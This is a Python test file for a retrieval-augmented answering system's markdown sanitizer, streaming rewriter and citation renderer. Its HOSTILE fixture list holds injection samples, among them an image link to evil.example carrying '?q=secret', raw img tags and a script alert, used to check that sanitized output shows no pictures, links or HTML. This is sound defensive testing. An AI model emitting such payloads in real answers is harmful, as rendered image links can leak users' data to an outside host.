from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from rag.answering.citations import cite
from rag.explanation import Explanation
from rag.server.openai.markdown import EvidenceLink, MarkdownStream, render_answer, sanitize
from rag.types import Answer, Citation, Evidence, Hit, ImageRegion, Segment

ANSWER = "The ape is an orangutan [E1]. It eats fruit [E1][E12]."
HOSTILE = [
    "![x](https://evil.example/?q=secret)",
    "[click](https://evil.example)",
    "![x][1]\n\n[1]: https://evil.example",
    "<img src=https://evil.example>",
    "<!-- --><script>alert(1)</script>",
    "![[E1]](https://evil.example)",
    "[E1](https://evil.example)",
    "[E1]: https://evil.example",
]


def test_a_stream_cut_anywhere_is_rewritten_the_same():
    for text in (ANSWER, *HOSTILE, "a [E", "b [E12", "c !", "d [", "e ]", "f <", "g [E1] [E1"):
        for cut in range(len(text) + 1):
            stream = MarkdownStream()
            assert stream.feed(text[:cut]) + stream.feed(text[cut:]) + stream.end() == sanitize(text), (text, cut)


@given(st.lists(st.sampled_from(["[E1]", "[E", "1", "]", "[", "!", "(", ":", "<", "a", "\n", " "]), max_size=30))
def test_pieces_of_any_size_are_rewritten_the_same(pieces):
    stream = MarkdownStream()
    assert "".join(map(stream.feed, pieces)) + stream.end() == sanitize("".join(pieces))


def test_no_marker_leaks():
    assert sanitize(ANSWER) == "The ape is an orangutan [1]. It eats fruit [1] [12]."


def test_text_of_a_model_shows_no_pictures_links_or_html():
    # As the most liberal clients render it: HTML on.
    render = MarkdownIt("commonmark", {"html": True}).render
    for text in HOSTILE:
        shown = render(sanitize(text))
        assert "<img" not in shown, text
        assert "<a " not in shown, text
        assert "<script" not in shown, text


PICTURE = Segment("a", 0, "image", "picture", ImageRegion())


def answer(text: str, *citations: Citation) -> Answer:
    return Answer("Which ape?", text, citations, (Evidence(1, Hit(PICTURE, Explanation(1.0), "/x/ape [1](2).jpg")),))


LINKS = {1: EvidenceLink("http://here/evidence/t/marked", 'ape [1](2) "x".jpg', "http://here/evidence/t/crop")}


def test_an_answer_shows_its_picture_and_links_its_numbers():
    text = "It is an orangutan [E1]."
    made = render_answer(answer(text, Citation(1, 0, len(text))), LINKS)
    shown = MarkdownIt().render(made.text)
    assert '<a href="http://here/evidence/t/marked" title="ape 1 2 x .jpg">1</a>' in shown
    assert '<img src="http://here/evidence/t/crop" alt="ape 1 2 x .jpg"' in shown
    (cite,) = made.cites
    assert made.text[cite.start : cite.end] == "It is an orangutan [1]."


def test_the_tail_completes_a_stream():
    text = "It is an orangutan [E1]."
    made = render_answer(answer(text, Citation(1, 0, len(text))), LINKS, "It is an orangutan [1].")
    assert made.text == "It is an orangutan [1]." + made.tail
    assert made.tail.startswith("\n\n![")


def test_an_answer_that_differs_from_the_stream_is_a_correction():
    text = "It is an orangutan [E1]."
    made = render_answer(answer(text, Citation(1, 0, len(text))), LINKS, "It is an orangutan [1]. It can fly.\n")
    assert made.text == "It is an orangutan [1]. It can fly.\n" + made.tail
    assert "corrected" in made.tail
    (cite,) = made.cites
    assert made.text[cite.start : cite.end] == "It is an orangutan [1]."


def test_a_declined_answer_is_its_text():
    declined = Answer("Who?", "The collection does not answer this.", declined=True)
    assert render_answer(declined, {}).text == "The collection does not answer this."


@given(
    st.lists(
        st.sampled_from(["[E1]", "[E2]", "[E3]", "[12]", "(a)", "[b]", "!", "<", "c.", " ", "\n", "🦧"]), max_size=14
    )
)
@example(["[E1]", "[b]"])
def test_citations_are_where_their_statements_stand(pieces):
    cited = cite("".join(pieces), 2)
    evidence = tuple(Evidence(n, Hit(PICTURE, Explanation(1.0), "/x/ape.jpg")) for n in (1, 2))
    links = {n: EvidenceLink(f"http://here/{n}", "ape.jpg") for n in (1, 2)}
    for streamed in ("", sanitize(cited.text), "🦧🦧 Something else."):
        made = render_answer(Answer("Which?", cited.text, cited.citations, evidence), links, streamed)
        said = [made.text[found.start : found.end] for found in made.cites]
        assert said == [sanitize(cited.text[c.start : c.end]) for c in cited.citations]
        assert [found.evidence.number for found in made.cites] == [c.number for c in cited.citations]
